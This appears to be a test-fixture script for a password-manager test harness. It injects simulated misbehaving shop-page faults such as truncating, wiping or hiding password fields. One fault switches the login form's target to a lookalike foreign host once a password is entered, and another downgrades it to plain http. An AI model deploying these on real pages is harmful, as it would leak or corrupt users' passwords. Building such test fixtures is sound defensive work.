// Owns the misbehaviour that plays in the page itself, one function a fault, named in the body's data-faults. Each does
// what real shop pages were seen to do to password managers. It must not talk to the shop.

/** @returns {HTMLInputElement[]} */
function passwordBoxes() {
  return [...document.querySelectorAll('input[type="password"], .ui-input[name]')]
    .filter((box) => box instanceof HTMLInputElement)
    .filter((box) => box.offsetParent !== null);
}

/** Sets a value past any framework. @param {HTMLInputElement} box @param {string} value */
function force(box, value) {
  Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(box, value);
}

/** @param {(box: HTMLInputElement) => void} react */
function onTyping(react) {
  document.addEventListener('input', (event) => {
    const box = event.composedPath()[0];
    if (box instanceof HTMLInputElement) react(box);
  });
}

const form = document.querySelector('#J_Form, #changePasswordForm, #login-form, form[class*="batman"]');

/** @type {Record<string, () => void>} */
const faults = {
  /** Keeps the first 12 characters of what a password box is given, and says nothing. */
  'silent-trim': () => onTyping((box) => box.value.length > 12 && force(box, box.value.slice(0, 12))),
  /** Empties password boxes half a second after something was put in. */
  wipe: () => onTyping((box) => void setTimeout(() => force(box, ''), 500)),
  /** The form comes a second and a half after the page. */
  late: () => {
    if (!form?.parentNode) return;
    const place = document.createComment('');
    form.replaceWith(place);
    setTimeout(() => place.replaceWith(form), 1500);
  },
  /** All boxes are replaced by new ones after 800 ms; the new ones can be told by `data-replaced`. */
  replace: () =>
    void setTimeout(() => {
      for (const box of passwordBoxes()) {
        box.dataset.replaced = '';
        box.replaceWith(box.cloneNode());
      }
    }, 800),
  /** The boxes stand in an open shadow root; hidden twins carry the values when the form is sent. */
  shadow: () => {
    for (const box of passwordBoxes()) {
      const host = document.createElement('span');
      const twin = document.createElement('input');
      twin.type = 'hidden';
      twin.name = box.name;
      box.removeAttribute('name');
      box.replaceWith(host, twin);
      const root = host.attachShadow({ mode: 'open' });
      const style = document.querySelector('link[rel="stylesheet"]');
      root.append(...(style ? [style.cloneNode()] : []), box);
      box.addEventListener('input', () => {
        twin.value = box.value;
      });
    }
  },
  /** Twenty more password boxes stand in the form of the new password, ten before the real ones and ten after. */
  crowd: () => {
    const items = document.querySelector('#newPwd, #newPassword')?.closest('form')?.querySelectorAll('.ui-form-item');
    for (const item of [items?.[0], items?.[items.length - 1]]) {
      for (let count = 0; count < 10; count += 1) {
        item?.before(Object.assign(document.createElement('input'), { type: 'password' }));
      }
    }
  },
  /** The form is a modal dialog. */
  dialog: () => {
    if (!form?.parentNode) return;
    const dialog = document.createElement('dialog');
    form.replaceWith(dialog);
    dialog.append(form);
    dialog.showModal();
  },
  /** Sign-in boxes show what they hold; the other templates draw their own. */
  shown: () => {
    for (const box of document.querySelectorAll('form[data-post] input[type="password"]'))
      box.setAttribute('type', 'text');
  },
  newsletter: () => {
    document.body.insertAdjacentHTML(
      'afterbegin',
      `<form id="newsletter" lang="en" dir="ltr"><label for="newsletter-email">Get our newsletter</label>
<input id="newsletter-email" type="email" name="newsletterEmail" placeholder="Your email address" autocomplete="email">
<button type="button">Subscribe</button></form>`,
    );
  },
  /** Where somebody is signed in already, no shop asks to sign up. */
  'sign-up': () => {
    if (!document.querySelector('form[data-post], #root[data-post]')) return;
    document.body.insertAdjacentHTML(
      'beforeend',
      `<dialog open id="sign-up" lang="en" dir="ltr" aria-labelledby="sign-up-title"><form><h2 id="sign-up-title">New here? Create an account</h2>
<p><label for="sign-up-email">Email</label> <input id="sign-up-email" type="email" name="regEmail" autocomplete="email"></p>
<p><label for="sign-up-password">Create a password</label> <input id="sign-up-password" type="password" name="regPassword" autocomplete="new-password"></p>
<p><label for="sign-up-again">Repeat password</label> <input id="sign-up-again" type="password" name="regPassword2" autocomplete="new-password"></p>
<button type="button">Create account</button></form></dialog>`,
    );
  },
  /** The form's target turns to a foreign host once a password stands in it. */
  'action-changed': () =>
    onTyping((box) => {
      if (box.form) box.form.action = 'https://www.aliexpress-secure.com/collect.htm';
    }),
  /** The form's target is plain http. */
  'http-action': () => {
    if (form instanceof HTMLFormElement) form.action = form.action.replace(/^https:/, 'http:');
  },
  /** The page reloads every two seconds. */
  'reload-loop': () => void setTimeout(() => location.reload(), 2000),
  /** Something in the page changes at every frame. */
  mutate: () => {
    const ticker = document.createElement('i');
    ticker.hidden = true;
    document.body.append(ticker);
    let count = 0;
    const tick = () => {
      count += 1;
      ticker.textContent = String(count);
      ticker.dataset.count = String(count);
      requestAnimationFrame(tick);
    };
    tick();
  },
};

for (const name of (document.body.dataset.faults ?? '').split(' ')) faults[name]?.();

export {};
